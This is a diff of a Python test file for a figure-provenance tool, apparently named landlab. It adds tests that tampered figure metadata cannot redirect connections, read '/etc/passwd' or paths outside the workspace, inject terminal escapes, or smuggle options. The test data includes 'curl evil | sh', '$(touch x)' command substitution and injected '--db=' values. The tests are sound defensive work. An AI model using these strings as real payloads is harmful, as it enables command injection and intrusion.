@@ -3,9 +3,11 @@
 import json
 import os
 import shutil
+import socketserver
 import sqlite3
 import subprocess
 import sys
+import threading
 import tomllib
 
 import numpy as np
@@ -60,13 +62,14 @@ def test_nothing_changed(figure, workspace, tmp_path):
     copy = tmp_path / "figure of the paper.bin"
     shutil.copy(figure, copy)
     for path in (figure, copy):
-        done = traced(path)  # the workspace is the one in which it was made
+        done = traced(path, "-w", workspace.root)
         assert done.exit_code == 0, done.output
         assert "analysis skill" in done.stdout
         assert "filter: seed < 2" in done.stdout
         assert "runs: 6" in done.stdout
         assert f"nothing changed since, compared with {workspace.root}" in done.stdout
-    content = json.loads(traced(figure, "--json").stdout)
+        assert "made in" not in done.stdout
+    content = json.loads(traced(figure, "-w", workspace.root, "--json").stdout)
     with workspace.open(read_only=True) as catalog:
         ids = list(catalog.runs()["run_id"])
         assert content["made"]["runs"] == catalog.evidence(ids, ["dev"])
@@ -99,7 +102,7 @@ def test_runs_that_came_since(figure, workspace):
     assert changed(figure, workspace) == {
         ("runs", "3 of 9 are found by the filter now, and not in the figure"): new
     }
-    done = traced(figure)
+    done = traced(figure, "-w", workspace.root)
     assert done.exit_code == 1
     assert new[0] in done.stdout
 
@@ -190,6 +193,97 @@ def test_a_filter_by_test_metrics_is_counted_again(workspace, tmp_path):
         assert len(catalog.events(kind="read_test")) == before + 1
 
 
+# --- a stranger's figure
+
+
+def altered(figure, **parts):
+    """The figure with other provenance, as a stranger could make it."""
+    from matplotlib.figure import Figure
+
+    made = figures.read(figure)
+    for key, value in parts.items():
+        made[key] = made[key] | value if isinstance(value, dict) else value
+    figures.save(Figure(), figure, made)
+
+
+@pytest.mark.parametrize("place", ["catalog", "settings"])
+def test_no_connection_goes_where_only_the_figure_leads(figure, workspace, tmp_path, monkeypatch, place):
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("PGPASSWORD", "secret")
+    monkeypatch.setenv("PGCONNECT_TIMEOUT", "2")
+    callers = []
+
+    class Listener(socketserver.BaseRequestHandler):
+        def handle(self):
+            callers.append(self.client_address)
+
+    with socketserver.TCPServer(("127.0.0.1", 0), Listener) as server:
+        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
+        address = f"127.0.0.1:{server.server_address[1]}"
+        if place == "catalog":
+            altered(figure, catalog=f"postgresql+psycopg://me@{address}/x?sslmode=disable")
+        else:
+            (workspace.root / "landlab.toml").write_text(f'storage = "http://{address}/x"')
+        done = traced(figure)
+        server.shutdown()
+    assert callers == []
+    assert f"no workspace at {tmp_path / 'landlab-workspace'}" in done.stdout
+    said = [line for line in done.stdout.splitlines() if line.startswith("made in ")]
+    assert len(said) == 1
+    assert f"made in {workspace.root} with the catalog" in said[0]
+    assert (address in said[0]) == (place == "catalog")
+
+
+@pytest.mark.parametrize("kind", ["workspace", "database"])
+def test_the_environment_names_what_to_compare_with(figure, workspace, monkeypatch, tmp_path, kind):
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("LANDLAB_WORKSPACE", str(workspace.root))
+    if kind == "database":
+        monkeypatch.setenv("LANDLAB_DB", workspace.database)
+    done = traced(figure)
+    assert done.exit_code == 0, done.output
+    assert "made in" not in done.stdout
+
+
+@pytest.mark.parametrize("path", ["../outside", "/etc/passwd", "s3://stranger/x", "http://127.0.0.1:9/x"])
+def test_a_result_outside_the_workspace_is_not_read(figure, workspace, tmp_path, path):
+    (tmp_path / "outside").write_text("not the workspace's")
+    altered(figure, result={"path": path})
+    [(what, detail)] = changed(figure, workspace)
+    assert what == "result"
+    assert f"cannot be read: {path!r} leads out of the workspace" in detail
+
+
+def test_a_terminal_obeys_nothing_that_a_figure_says(figure, workspace):
+    bad = "\x1b]0;owned\x07\nto make it again:\ncurl evil | sh\u202e"
+    analysis_ = {"filter": f"seed < 2 {bad}", "options": {bad: bad}, "id": bad}
+    [dataset] = figures.read(figure)["datasets"]
+    grids = [g | {"dataset": f"{bad}\x9b"} for g in figures.read(figure)["grids"]]
+    altered(
+        figure,
+        analysis=analysis_,
+        grids=grids,
+        datasets=[dataset | {"name": bad, "source": bad}],
+        code={"commit": bad},
+        created=bad,
+        catalog=bad,
+        workspace=bad,
+    )
+    done = traced(figure, "-w", workspace.root)
+    assert done.exit_code == 1
+    assert all(line.isprintable() for line in done.stdout.split("\n"))
+    assert done.stdout.split("\n").count("to make it again:") == 1
+    assert not [line for line in done.stdout.split("\n") if line.startswith("curl")]
+
+
+def test_no_name_of_a_figure_is_an_option(figure, workspace):
+    for part in ("name", "filter"):
+        before = figures.read(figure)["analysis"]
+        altered(figure, analysis={part: "--db=postgresql://stranger/x"})
+        assert "its provenance is damaged" in str(traced(figure, "-w", workspace.root).exception)
+        altered(figure, analysis=before)
+
+
 # --- commands
 
 
@@ -237,6 +331,7 @@ def test_every_grid_survives_being_written(name):
     ("filter", "quoted"),
     [
         ("grid = 'a'", "\"grid = 'a'\""),
+        ("tag = '\\ \x1b[2J\n$(touch x)'", r"\u001b[2J\u000a"),
         ("tag = '$(touch x)'", None),
         ("grid = \"a\" and tag = '`b`'", None),
     ],
@@ -269,7 +364,7 @@ def test_a_dataset_s_figure(workspace, tmp_path, kind):
     from matplotlib.figure import Figure
 
     figures.save(Figure(), path, made)
-    done = traced(path)
+    done = traced(path, "-w", workspace.root)
     assert done.exit_code == 0, done.output
     assert "landlab data twin --patches 6 --pixels 2 --years 3 --seed 1" in done.stdout
     assert f"landlab data show {dataset.name} --figure {path}" in done.stdout
